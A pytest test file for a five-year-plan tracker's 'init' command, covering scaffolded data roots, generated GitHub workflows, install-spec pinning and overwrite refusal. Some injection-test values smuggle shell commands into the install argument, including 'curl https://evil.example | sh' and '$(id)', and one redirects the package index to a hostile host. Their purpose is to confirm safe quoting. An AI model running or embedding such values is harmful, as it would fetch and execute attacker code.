"""`tracker init`: a working data root from the packaged templates, never overwriting anything."""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import tomllib
from importlib import resources
from pathlib import Path

import goldens
import pytest
import yaml
from goldens import check_golden
from report_support import REPORT_ROOT, TESTS, pinned_terminal, run
from rich.cells import cell_len
from typer.testing import Result

import tracker
from tracker.exitcodes import ExitCode
from tracker.scaffold import DISTRIBUTION, FULL_CATALOG, files, pinned_install, template, this_year

__all__ = ["pinned_terminal"]

REPO = TESTS.parent
TEMPLATES = REPO / "tracker" / "templates"
PINNED = "git+https://example.org/tracker@0123456789abcdef0123456789abcdef01234567"


def test_init_creates_a_data_root_that_passes_its_own_gate(tmp_path: Path) -> None:
    """No --as-of anywhere: the root init makes today passes check and validate --strict today."""
    root = tmp_path / "new"
    result = run("init", str(root), "--install", "git+https://example.org/tracker@v0.1.0")
    assert result.exit_code == ExitCode.OK, result.stderr
    year = this_year()
    created = sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file())
    assert created == sorted(target for _, target in files(year))
    assert f"plans/example-county-{year}-{year + 4}.yaml" in created
    header, example, end = (root / "actuals" / "actuals.csv").read_text(encoding="utf-8").split("\n")
    assert header == "region,indicator,year,value,qualifier,source,quote,note" and end == ""
    assert example.startswith(f"示例县,学前教育毛入园率,{year - 1},90,")
    workflow = yaml.safe_load((root / ".github/workflows/tracker-check.yml").read_text(encoding="utf-8"))
    steps = workflow["jobs"]["check"]["steps"]
    assert {"run": "python -m pip install git+https://example.org/tracker@v0.1.0", "name": "Install tracker"} in [
        {k: v for k, v in step.items() if k in ("run", "name")} for step in steps
    ]
    check = run("check", "--data", str(root))
    assert check.exit_code == ExitCode.OK, check.stdout + check.stderr
    assert check.stdout == (
        f"tracker check: OK - 0 of 4 targets failed as of {year}; policy: missed; off_track, regressing if binding\n"
    )
    assert check.stderr == ""  # no warning either
    validate = run("validate", "--data", str(root), "--strict")
    assert validate.exit_code == ExitCode.OK, validate.stdout
    assert validate.stdout == "1 plan, 4 targets, 1 actual row: 0 errors, 0 warnings\n"
    status = run("status", "--data", str(root), "--json")
    assert status.exit_code == ExitCode.OK, status.stderr
    statuses = {t["target"]: t["status"] for t in json.loads(status.stdout)["targets"]}
    assert statuses == {
        "preschool-enrolment": "no_data",  # the example row is the baseline, read from the CSV
        "retention": "no_data",
        "new-places": "no_data",
        "quality-balance": "pending",
    }


def test_example_plan_years_follow_the_year_init_runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Made in 2031: a 2031-2035 plan with a 2030 baseline, clean until its milestone is overdue in 2036."""
    monkeypatch.setattr("tracker.scaffold.this_year", lambda: 2031)
    root = tmp_path / "new"
    assert run("init", str(root), "--install", PINNED).exit_code == ExitCode.OK
    plan = yaml.safe_load((root / "plans" / "example-county-2031-2035.yaml").read_text(encoding="utf-8"))
    assert plan["id"] == "example-county-2031-2035" and plan["period"] == {"start": 2031, "end": 2035}
    assert plan["targets"][0]["baseline"] == {"year": 2030}
    assert plan["targets"][3]["by"] == 2035 and plan["targets"][3]["quote"].startswith("2035年")
    for as_of in ("2031", "2035"):
        assert run("check", "--data", str(root), "--as-of", as_of).exit_code == ExitCode.OK
    # Left in place, the example has no figure after its deadline: listed apart, failing nothing
    # by default (no report of the milestone is no data, not a miss), failing with --fail-on no_data.
    late = run("check", "--data", str(root), "--as-of", "2036")
    assert late.exit_code == ExitCode.OK, late.stdout
    assert "past the deadline with no figure: 4 (not failing; --fail-on no_data makes them fail)" in late.stdout
    assert "  plans/example-county-2031-2035.yaml:" in late.stdout
    assert "example-county-2031-2035/quality-balance: no_data - no figure, and the deadline 2035 has passed" in (
        late.stdout
    )
    strict = run("check", "--data", str(root), "--as-of", "2036", "--fail-on", "no_data")
    assert strict.exit_code == ExitCode.TARGETS_FAILED
    assert "FAILED - 4 of 4 targets as of 2036 (no_data 4)" in strict.stdout


@pytest.mark.parametrize(
    "spec",
    ["tracker>=0.1", 'x" && curl https://evil.example | sh #', "git+https://x/y.git#egg=tracker", "a: b", "它 $(id)"],
)
def test_install_spec_is_one_shell_word_in_valid_yaml(tmp_path: Path, spec: str) -> None:
    root = tmp_path / "new"
    assert run("init", str(root), "--install", spec).exit_code == ExitCode.OK
    for name, job in (("tracker-check.yml", "check"), ("tracker-report.yml", "report"), ("tracker-pages.yml", "build")):
        workflow = yaml.safe_load((root / ".github" / "workflows" / name).read_text(encoding="utf-8"))
        install = next(step["run"] for step in workflow["jobs"][job]["steps"] if step.get("name") == "Install tracker")
        assert shlex.split(install) == ["python", "-m", "pip", "install", spec]


@pytest.mark.parametrize(
    ("spec", "reason"),
    [
        ("--index-url=https://evil.example", "would be read as a pip option"),
        ("tracker\nrun: evil", "line break or control character"),
        ("  ", "needs a package spec"),
    ],
)
def test_unusable_install_spec_is_refused(tmp_path: Path, spec: str, reason: str) -> None:
    root = tmp_path / "new"
    result = run("init", str(root), "--install", spec)
    assert result.exit_code == ExitCode.BAD_INPUT
    assert result.stderr.startswith("--install: TRK405 ") and reason in result.stderr
    assert not root.exists()


def test_init_without_install_pins_the_running_tracker(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tracker.scaffold.pinned_install", lambda: PINNED)
    root = tmp_path / "new"
    result = run("init", str(root))
    assert result.exit_code == ExitCode.OK, result.stderr
    assert result.stderr == ""
    assert (
        f"  All three install the tracker running now, pinned (upgrade: Install tracker):\n    {PINNED}\n"
        in run("init", str(tmp_path / "en"), "--lang", "en").stdout
    )
    assert (
        f"  三者都安装本机所装的 tracker，已固定版本（升级时改 Install tracker 一行）：\n    {PINNED}\n"
        in result.stdout
    )
    for name in ("tracker-check.yml", "tracker-report.yml", "tracker-pages.yml"):
        assert f"run: python -m pip install {PINNED}\n" in (root / ".github/workflows" / name).read_text("utf-8")


def test_init_without_install_that_cannot_pin_writes_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """No placeholder workflow that fails on its first run: init asks for --install instead."""
    monkeypatch.setattr("tracker.scaffold.pinned_install", lambda: None)
    root = tmp_path / "new"
    result = run("init", str(root))
    assert result.exit_code == ExitCode.BAD_INPUT
    assert result.stderr.startswith("--install: TRK405 cannot tell where this tracker was installed from")
    assert not root.exists()


class _Installed:
    """A stand-in for an installed distribution: its version and its PEP 610 record."""

    def __init__(self, record: str | None, path: str = "/site-packages/five_year_plan_tracker-0.1.0.dist-info") -> None:
        self.version, self.record, self._path = "0.1.0", record, path

    def read_text(self, name: str) -> str | None:
        return self.record if name == "direct_url.json" else None


def _clone(tmp_path: Path, remote: str | None) -> tuple[Path, str]:
    """A git repository with one commit (and an origin remote when given): its folder and commit."""
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org"}
    env |= {"GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.org", "GIT_CONFIG_NOSYSTEM": "1"}
    folder = tmp_path / "clone"
    folder.mkdir(parents=True)
    subprocess.run(["git", "init", "-q"], cwd=folder, env=env, check=True)
    subprocess.run(["git", "commit", "-q", "--allow-empty", "-m", "x"], cwd=folder, env=env, check=True)
    if remote:
        subprocess.run(["git", "remote", "add", "origin", remote], cwd=folder, env=env, check=True)
    commit = subprocess.run(["git", "rev-parse", "HEAD"], cwd=folder, capture_output=True, text=True, check=True)
    return folder, commit.stdout.strip()


def test_pinned_install_reads_how_tracker_was_installed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[str] = []

    def installed(record: str | None, path: str = "/site-packages/five_year_plan_tracker-0.1.0.dist-info") -> None:
        def distribution(name: str) -> _Installed:
            asked.append(name)
            return _Installed(record, path)

        monkeypatch.setattr("importlib.metadata.distribution", distribution)

    installed(None)  # from a package index: no PEP 610 record, pinned by the distribution's own name
    assert pinned_install() == "five-year-plan-tracker==0.1.0"
    assert asked == ["five-year-plan-tracker"]
    vcs = {"url": "https://github.com/org/tracker.git", "vcs_info": {"vcs": "git", "commit_id": "abc123"}}
    installed(json.dumps(vcs))
    assert pinned_install() == "git+https://github.com/org/tracker.git@abc123"
    with_remote, commit = _clone(tmp_path / "a", "git@github.com:org/tracker.git")
    installed(json.dumps({"url": with_remote.as_uri(), "dir_info": {"editable": True}}))
    assert pinned_install() == f"git+https://github.com/org/tracker.git@{commit}"
    installed(None, str(with_remote / "tracker.egg-info"))  # `python -m tracker` in a source tree
    assert pinned_install() == f"git+https://github.com/org/tracker.git@{commit}"
    without_remote, _ = _clone(tmp_path / "b", None)
    installed(json.dumps({"url": without_remote.as_uri(), "dir_info": {}}))
    assert pinned_install() is None
    installed(json.dumps({"url": "https://example.org/tracker-0.1.0.tar.gz", "archive_info": {}}))
    assert pinned_install() is None


def test_init_refuses_to_overwrite_and_writes_nothing(tmp_path: Path) -> None:
    root = tmp_path / "existing"
    (root / "plans").mkdir(parents=True)
    (root / "indicators.yaml").write_text("mine\n", encoding="utf-8")
    result = run("init", str(root), "--install", PINNED)
    assert result.exit_code == ExitCode.BAD_INPUT
    assert f"{root.as_posix()}/indicators.yaml: TRK409" in result.stderr
    assert (root / "indicators.yaml").read_text(encoding="utf-8") == "mine\n"
    assert sorted(p.name for p in root.rglob("*")) == ["indicators.yaml", "plans"]


def test_examples_are_the_templates_installing_this_checkout() -> None:
    for name in ("check.yml", "report.yml", "pages.yml"):
        assert (REPO / "examples" / name).read_text(encoding="utf-8") == template(name, ".")


def test_workflows_name_python_and_the_commands() -> None:
    check = yaml.safe_load(template("check.yml", "."))
    report = yaml.safe_load(template("report.yml", "."))
    for workflow in (check, report):
        steps = next(iter(workflow["jobs"].values()))["steps"]
        assert {"python-version": "3.12"} in [step.get("with") for step in steps]
    assert "tracker check --junit tracker-junit.xml" in template("check.yml")
    # YAML reads the key `on` as True. The check runs monthly too: deadlines pass without a push.
    assert set(check[True]) == {"push", "pull_request", "schedule", "workflow_dispatch"}
    assert [entry["cron"] for entry in check[True]["schedule"]] == ["41 4 2 * *"]
    assert set(report[True]) == {"schedule", "workflow_dispatch"}
    # tracker validate --strict before the check: a warning stops the job before any status.
    runs = [step.get("run", "") for step in check["jobs"]["check"]["steps"]]
    assert runs.index("tracker validate --strict") < runs.index("tracker check --junit tracker-junit.xml")
    assert report["permissions"] == {"contents": "write"}


def test_templates_ship_in_the_wheel() -> None:
    """Every template file matches a pattern of [tool.setuptools.package-data]."""
    config = tomllib.loads((REPO / "pyproject.toml").read_text(encoding="utf-8"))
    patterns = config["tool"]["setuptools"]["package-data"]["tracker.templates"]
    files = [p for p in TEMPLATES.iterdir() if p.is_file() and p.suffix != ".py"]
    assert files
    for path in files:
        assert any(path.match(pattern) for pattern in patterns), path.name


def test_template_indicators_load_as_a_catalog() -> None:
    from tracker.plans import read_catalog

    index, problems = read_catalog(TEMPLATES / "indicators.yaml", "indicators.yaml")
    assert problems == []
    assert index.resolve("学前三年毛入园率") == "preschool_gross_enrolment_rate"
    assert len(index.catalog.indicators) == 23


def test_template_indicators_match_the_bundled_catalog() -> None:
    """The standard indicators use the bundled catalog's ids, names, units and directions."""
    template_catalog = yaml.safe_load((TEMPLATES / "indicators.yaml").read_text(encoding="utf-8"))["indicators"]
    bundled = yaml.safe_load((REPO / "indicators.yaml").read_text(encoding="utf-8"))["indicators"]
    for indicator_id, entry in template_catalog.items():
        assert indicator_id in bundled
        for key in ("name", "name_en", "unit", "better"):
            assert entry[key] == bundled[indicator_id][key], (indicator_id, key)


def test_init_into_a_file_is_trk411(tmp_path: Path) -> None:
    existing = tmp_path / "afile"
    existing.write_text("mine\n", encoding="utf-8")
    result = run("init", str(existing), "--install", PINNED)
    assert result.exit_code == ExitCode.BAD_INPUT
    assert result.stderr == f"{existing.as_posix()}: TRK411 cannot write output: it is a file, not a folder\n"
    assert existing.read_text(encoding="utf-8") == "mine\n"


def test_init_that_fails_half_way_removes_what_it_wrote(tmp_path: Path) -> None:
    """A file named .github stops the workflows after three files: TRK411, and the three are gone."""
    root = tmp_path / "new"
    root.mkdir()
    (root / ".github").write_text("not a folder\n", encoding="utf-8")
    result = run("init", str(root), "--install", PINNED)
    assert result.exit_code == ExitCode.BAD_INPUT
    assert result.stderr.startswith(
        f"{root.as_posix()}/.github/workflows/tracker-check.yml: TRK411 cannot write output: "
    )
    assert "unexpected error" not in result.stderr
    assert sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file()) == [".github"]


# --- the report workflow's own shell, run against a real git remote -----------------------------


def _step(name: str) -> str:
    workflow = yaml.safe_load(template("report.yml", "."))
    return next(step["run"] for step in workflow["jobs"]["report"]["steps"] if step.get("name", "").startswith(name))


def _git(cwd: Path, *args: str, env: dict[str, str]) -> str:
    done = subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, text=True, check=True)
    return done.stdout


def _run_step(script: str, cwd: Path, env: dict[str, str]) -> str:
    """As GitHub runs a `run:` step: bash with -e and pipefail."""
    done = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout


def test_report_workflow_commits_only_real_changes_and_rebases_before_pushing(tmp_path: Path) -> None:
    env = {
        "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
        "HOME": str(tmp_path),
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@example.org",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@example.org",
        "RUNNER_TEMP": str(tmp_path / "runner"),
        "NO_COLOR": "1",
    }
    (tmp_path / "runner").mkdir()
    origin, work, other = tmp_path / "origin.git", tmp_path / "work", tmp_path / "other"
    _git(tmp_path, "init", "-q", "--bare", "--initial-branch=main", str(origin), env=env)
    _git(tmp_path, "clone", "-q", str(origin), str(work), env=env)
    shutil.copytree(REPORT_ROOT, work, dirs_exist_ok=True)
    _git(work, "add", ".", env=env)
    _git(work, "commit", "-qm", "data", env=env)
    _git(work, "push", "-q", "origin", "HEAD:main", env=env)
    _git(work, "branch", "-q", "--set-upstream-to=origin/main", env=env)
    regenerate, commit = _step("Regenerate the reports"), _step("Commit the reports")

    def scheduled_run() -> str:
        _run_step(regenerate, work, env)
        return _run_step(commit, work, env)

    def pushed() -> list[str]:
        return _git(origin, "log", "--format=%s", "main", env=env).splitlines()

    scheduled_run()  # the first report
    assert pushed() == ["Update the tracker reports", "data"]
    # Nothing new: the report gains a Changes section ('No changes.') and nothing else.
    assert "nothing to commit" in scheduled_run()
    assert "<!-- tracker:changes -->" in (work / "reports" / "status.md").read_text(encoding="utf-8")
    assert pushed() == ["Update the tracker reports", "data"]
    # A new figure in this checkout while someone else pushes meanwhile: commit, rebase, push.
    with (work / "actuals" / "figures.csv").open("a", encoding="utf-8") as stream:
        stream.write("甲县,dropout_rate,2024,0.9,,甲县统计公报2024,,\n")
    _git(work, "commit", "-qam", "a 2024 figure", env=env)
    _git(work, "push", "-q", env=env)  # the commit the scheduled run checked out
    _git(tmp_path, "clone", "-q", str(origin), str(other), env=env)
    (other / "NOTES.md").write_text("elsewhere\n", encoding="utf-8")
    _git(other, "add", ".", env=env)
    _git(other, "commit", "-qm", "meanwhile", env=env)
    _git(other, "push", "-q", env=env)
    _run_step(regenerate, work, env)
    _run_step(commit, work, env)
    assert pushed()[:3] == ["Update the tracker reports", "meanwhile", "a 2024 figure"]
    report = _git(origin, "show", "main:reports/status.md", env=env)
    assert "### 新数据" in report and "`alpha-county-2021-2025/dropout`" in report  # zh: the default
    # The next run sees no change: its Changes section ('No changes.') differs, nothing else.
    before = pushed()
    assert "nothing to commit" in scheduled_run()
    assert pushed() == before


# --- what init prints: the next steps ----------------------------------------------------------

COMMANDS = re.compile(r"tracker (?:init|status|explain|report|check|validate|template|extract|schema)(?: [-\w./]+)*")


def _init_2026(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, *args: str) -> Result:
    """`tracker init ARGS` in tmp_path, run in 2026 (the example plan 2026-2030)."""
    monkeypatch.setattr("tracker.scaffold.this_year", lambda: 2026)
    monkeypatch.chdir(tmp_path)
    result = run("init", *args)
    assert result.exit_code == ExitCode.OK, result.stderr
    assert result.stderr == ""
    return result


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_next_steps_golden(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, lang: str) -> None:
    printed = _init_2026(tmp_path, monkeypatch, "county-edu", "--install", PINNED, "--lang", lang).stdout
    check_golden(f"init-next-steps.{lang}.txt", printed)


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_next_steps_name_the_files_the_commands_and_the_workflows(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, lang: str
) -> None:
    printed = _init_2026(tmp_path, monkeypatch, "county-edu", "--install", PINNED, "--lang", lang).stdout
    lines = printed.splitlines()
    assert len(lines) <= 18, printed  # short enough to read at once
    for line in lines:  # fits an 80-column terminal, CJK counted two columns wide; only the spec may not
        assert cell_len(line) <= 80 or line == f"    {PINNED}", line
    for named in (
        "cd county-edu",
        "plans/example-county-2026-2030.yaml",
        "indicators.yaml",
        "--full-catalog",
        "actuals/",
        "地区,指标,年份,数值",
        "tracker-check.yml",
        "tracker-report.yml",
        "reports/status.md",
        "Install tracker",
        "docs/getting-started.md",
    ):
        assert named in printed, named
    assert f"\n    {PINNED}\n" in printed  # the pinned spec on a line of its own, to copy
    commands = [match.group(0) for match in COMMANDS.finditer(printed)]
    form = "forms/填报表.xlsx" if lang == "zh" else "forms/form.xlsx"
    assert commands == [
        f"tracker template --plan example-county-2026-2030 --out {form}",
        "tracker validate",
        "tracker status",
        "tracker explain example-county-2026-2030/preschool-enrolment",
        "tracker report",
    ]


def test_every_command_the_next_steps_print_works(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Run in the new folder as printed: each command exits 0 and does what the line says."""
    printed = _init_2026(tmp_path, monkeypatch, "county-edu", "--install", PINNED).stdout
    monkeypatch.chdir(tmp_path / "county-edu")
    outputs = {}
    for command in COMMANDS.findall(printed):
        result = run(*shlex.split(command)[1:], "--as-of", "2027") if " status" in command else None
        result = result or run(*shlex.split(command)[1:])
        assert result.exit_code == ExitCode.OK, (command, result.stdout, result.stderr)
        outputs[command.split()[1]] = result.stdout
    # Four targets without a figure in 2026-2030 (the 2025 baseline row is before it): 4 x 5 = 20 rows.
    assert outputs["template"] == "wrote forms/填报表.xlsx: 20 rows to fill\n"
    assert (tmp_path / "county-edu" / "forms" / "填报表.xlsx").is_file()
    assert outputs["validate"] == "1 plan, 4 targets, 1 actual row: 0 errors, 0 warnings\n"
    assert "preschool-enrolment" in outputs["explain"] and "2030" in outputs["explain"]
    assert "example-county-2026-2030" in outputs["status"]
    assert (tmp_path / "county-edu" / "reports" / "status.md").is_file()


@pytest.mark.parametrize(
    ("where", "zh", "en"),
    [
        (".", "下一步：\n", "Next steps:\n"),
        ("my data", "下一步，先进入该目录：cd 'my data'\n", "Next steps (cd 'my data'):\n"),
    ],
)
def test_next_steps_say_where_to_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str, zh: str, en: str
) -> None:
    """No `cd` into the folder init ran in; a folder name the shell would split is quoted."""
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    assert (
        _init_2026(tmp_path / "a", monkeypatch, where, "--install", PINNED)
        .stdout.splitlines()[0]
        .endswith(zh.rstrip("\n"))
    )
    assert (
        _init_2026(tmp_path / "b", monkeypatch, where, "--install", PINNED, "--lang", "en")
        .stdout.splitlines()[0]
        .endswith(en.rstrip("\n"))
    )


# --- --full-catalog ------------------------------------------------------------------------------


def test_the_shipped_full_catalog_is_the_repository_catalog() -> None:
    """One source of truth: tracker/templates/indicators-full.yaml is a byte copy of indicators.yaml.

    The wheel can only ship files inside the package, so the catalog at the data root (a public
    contract) is copied there; TRACKER_UPDATE_GOLDEN=1 pytest refreshes the copy after a change.
    """
    source = (REPO / "indicators.yaml").read_bytes()
    copy = TEMPLATES / FULL_CATALOG
    goldens.refresh(copy, source)
    assert copy.read_bytes() == source, (
        "indicators.yaml changed: TRACKER_UPDATE_GOLDEN=1 pytest (or cp indicators.yaml "
        "tracker/templates/indicators-full.yaml) updates the copy that init --full-catalog ships"
    )
    # ... and the installed package holds it (the tests run against the installed tracker).
    installed = resources.files("tracker.templates").joinpath(FULL_CATALOG).read_bytes()
    assert installed == source


def test_init_full_catalog_copies_every_bundled_entry(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    printed = _init_2026(tmp_path, monkeypatch, "new", "--install", PINNED, "--full-catalog").stdout
    assert "（已含全部内置指标）" in printed and "init 时加 --full-catalog" not in printed
    root = tmp_path / "new"
    written = (root / "indicators.yaml").read_text(encoding="utf-8")
    bundled = yaml.safe_load((REPO / "indicators.yaml").read_text(encoding="utf-8"))
    assert yaml.safe_load(written) == bundled  # every entry, every name and alias
    assert len(bundled["indicators"]) == 243
    header = written[: written.index("\nindicators:")]
    assert "yaml-language-server" not in header  # the repository's schema path is not in a new root
    assert "tracker extract" in header and all(line.startswith("#") for line in header.splitlines())
    validate = run("validate", "--data", str(root), "--strict")
    assert validate.exit_code == ExitCode.OK and validate.stdout.endswith("0 errors, 0 warnings\n"), validate.stdout
    assert run("check", "--data", str(root)).exit_code == ExitCode.OK


def test_full_catalog_reads_the_names_documents_use(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A row naming its indicator by a traditional-character alias: an error with the standard
    catalog, the example's preschool figure with the full one."""
    row = "示例县,學前三年毛入園率,2027,93.5,,示例县2027年教育统计公报,,\n"
    for name, args in (("standard", []), ("full", ["--full-catalog"])):
        _init_2026(tmp_path, monkeypatch, name, "--install", PINNED, *args)
        with (tmp_path / name / "actuals" / "actuals.csv").open("a", encoding="utf-8") as stream:
            stream.write(row)
    standard = run("validate", "--data", "standard")
    assert standard.exit_code == ExitCode.BAD_INPUT
    assert "actuals/actuals.csv:3:2: TRK306 unknown indicator '學前三年毛入園率'" in standard.stdout
    full = run("status", "--data", "full", "--as-of", "2028", "--json")
    assert full.exit_code == ExitCode.OK, full.stderr
    preschool = next(t for t in json.loads(full.stdout)["targets"] if t["target"] == "preschool-enrolment")
    # baseline 90 (2025) to 95 by 2030: 93.5 in 2027 is (3.5 / 5) / (2 / 5) = 1.75, on track.
    assert preschool["status"] == "on_track" and preschool["ratio"] == 1.75


def test_extract_against_a_full_catalog_root_drafts_as_the_repository_does(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The full catalog is what extraction was built against: the same drafts as at this repository's
    root, and more figures mapped than with the 23 standard indicators."""
    document = TESTS / "extract" / "documents" / "dev" / "d10_henan_one_paragraph.txt"
    _init_2026(tmp_path, monkeypatch, "full", "--install", PINNED, "--full-catalog")
    _init_2026(tmp_path, monkeypatch, "standard", "--install", PINNED)

    def drafts(data: Path, out: str) -> tuple[str, dict[str, bytes]]:
        result = run("extract", str(document), "--data", str(data), "--out", out)
        assert result.exit_code == ExitCode.OK, result.stderr
        folder = tmp_path / out
        summary = result.stdout.splitlines()[0].replace(f" {out}/", " OUT/")
        return summary, {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}

    full, repository, standard = (
        drafts(tmp_path / "full", "drafts-full"),
        drafts(REPO, "drafts-repository"),
        drafts(tmp_path / "standard", "drafts-standard"),
    )
    assert full == repository
    drafted = re.compile(r"(\d+) targets and (\d+) figures drafted")
    counts = [drafted.match(summary) for summary, _ in (full, standard)]
    assert counts[0] and counts[1]
    full_items = int(counts[0].group(1)) + int(counts[0].group(2))
    standard_items = int(counts[1].group(1)) + int(counts[1].group(2))
    assert full_items > standard_items


# --- the distribution name -------------------------------------------------------------------------


def test_the_distribution_is_named_for_what_it_is_and_installs_the_tracker_command() -> None:
    """`tracker` on the package index is an unrelated project: the distribution has its own name,
    the command and the import package stay `tracker`."""
    from importlib import metadata

    config = tomllib.loads((REPO / "pyproject.toml").read_text(encoding="utf-8"))
    assert config["project"]["name"] == DISTRIBUTION == "five-year-plan-tracker"
    assert config["project"]["scripts"] == {"tracker": "tracker.cli:main"}
    installed = metadata.distribution(DISTRIBUTION)  # the tests run against the installed tracker
    scripts = {e.name: e.value for e in installed.entry_points if e.group == "console_scripts"}
    assert scripts == {"tracker": "tracker.cli:main"}
    assert installed.version == tracker.__version__


def test_init_names_the_distribution_when_it_cannot_pin(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tracker.scaffold.pinned_install", lambda: None)
    result = run("init", str(tmp_path / "new"))
    assert result.exit_code == ExitCode.BAD_INPUT
    assert "--install 'five-year-plan-tracker==VERSION'" in result.stderr
